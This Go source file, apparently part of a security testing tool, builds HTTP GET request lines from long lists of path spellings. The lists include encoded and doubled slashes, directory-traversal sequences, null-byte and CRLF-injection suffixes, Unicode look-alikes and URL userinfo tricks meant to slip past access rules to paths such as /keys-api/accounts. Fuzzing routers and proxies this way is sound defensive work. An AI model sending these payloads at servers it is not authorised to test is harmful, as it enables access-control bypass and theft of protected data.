package attack

import "strings"

// Spellings are ways to write the path of a request, most of which some server
// takes for another path. The request line is GET with the path.
func Spellings() (requests []Request) {
	seen := map[string]bool{}
	add := func(path string) {
		if !seen[path] {
			seen[path] = true
			requests = append(requests, Request{Name: "path " + path, Line: "GET " + path})
		}
	}
	for _, s := range separators {
		add("/api" + s + "data")
		add("/keys-api" + s + "accounts")
		add("/open" + s + "../api/data")
		add(s + "api/data")
	}
	for _, c := range climbs {
		add(c + "/api/data")
		add(c + "/keys-api/accounts")
		add(c)
	}
	for _, e := range ends {
		add("/api/data" + e)
		add("/keys-api/accounts" + e)
	}
	for _, p := range others {
		add(p)
	}
	return requests
}

// separators are ways to write a slash, or what is taken for one.
var separators = strings.Fields(`
	/ // /// %2f %2F %252f %25252f %2f%2f /%2f %2f/ \ \\ /\ \/ %5c %5C %255c /%5c
	/./ /.// /%2e/ /%252e/ /.%2f ;/ ;a=b/ /;/ /;a=b;c/ %3b/ %00/ /%00 %20/ /%20 %09/ %0a/ %0d%0a/ %7f/
	%c0%af %c1%9c %e0%80%af %f0%80%80%af %fc%80%80%80%80%af %ef%bc%8f %e2%88%95 %e2%81%84 %c2%a0/ %u002f
	?/ #/ %3f/ %23/ &/ : :// @ *`)

// climbs are ways out of a directory.
var climbs = strings.Fields(`
	/open/.. /open/../.. /open/%2e%2e /open/%2E%2E /open/.%2e /open/%2e. /open/..; /open/..;a=b /open/;/.. /open/..%2f /open/..%5c
	/open/..\ /open\.. /open/... /open/.... /open/%252e%252e /open/%c0%ae%c0%ae /open/%e0%80%ae%e0%80%ae /open/%uff0e%uff0e
	/open/%ef%bc%8e%ef%bc%8e /open/..%00 /open/%00.. /open/..%20 /open/..%09 /open/..%0d%0a /open//.. /open/./.. /open/x/../..
	/.. /../.. /../../.. /. /./. /.. /%2e%2e /%2e%2e/%2e%2e /.; /..; /static/..%252f..`)

// ends are what can stand behind a path.
var ends = append(strings.Fields(`
	/ // /. /.. /..; /./ /%2e /%2e%2e . .. ... ; ;a ;a=b ;a=b;c=d ;.css ;/ .json .css .html .php /x.css /x.php/y ~ .bak
	%20 %20/ %09 %00 %00.css %00/ %0a %0d %0d%0a %0d%0aX:%20y %2f %5c %3f %3fa=b %23 %23a %25 %2525 %ff %fe%ff %c0%80 %ed%a0%80 %e2%80%8b
	%ef%bb%bf # #/open ? ?? ?/open ?a=b ?a=b#c & = : ::$DATA * %2a | ^ ' , + @ ! $ ( ) [ ] { } {path} {uri} {http.request.uri} {env.HOME}
	%7bpath%7d < > <script> % %z %zz %2 %u0041 /index.html /* /** "`), "\xff", "\xc0\xaf", "\x7f", "\x01", "\t", " ", "\x00", "\\", "`")

// others are whole paths: of other case, other letters, and none at all.
var others = strings.Fields(`
	/API/DATA /Api/Data /aPI/data /%41PI/data /%61%70%69/%64%61%74%61 /%2561pi/data /ap%C4%B1/data /ap%c4%b0/data /%EF%BD%81pi/data /api/da%54a
	/%e1%b8%80pi/data /api/data/../data /api/../api/data /api/./data/. /api/data%2f..%2fdata /x/%2e%2e/api/%2e/data
	/.well-known/acme-challenge/x /metrics /config/ /debug/pprof/ /api_keys/accounts /favicon.ico /robots.txt / * api/data ./api/data ../api/data
	?a=b #a ; %2f %2fapi%2fdata %61pi/data \api\data http: http:/ http:// http:/// https://{host}/api/data ftp://{host}/api/data
	http://{host} http://{host}/api/../open http://{host}%2fapi/data http://{host}:80/api/data http://{host}@open.example/api/data
	http://open.example@{host}/api/data http://a:b@{host}/api/data http://[::1]/api/data http://[::1%25lo]/api/data http://{host}?a=b http://{host}#a
	//open.example/api/data ///api/data ////api/data /\open.example/api/data //{host}/api/data HTTP://{host}/api/data file:///api/data
	javascript:alert(1) data:,x ws://{host}/api/data unix:/api/data {host} {host}/api/data {host}:443`)
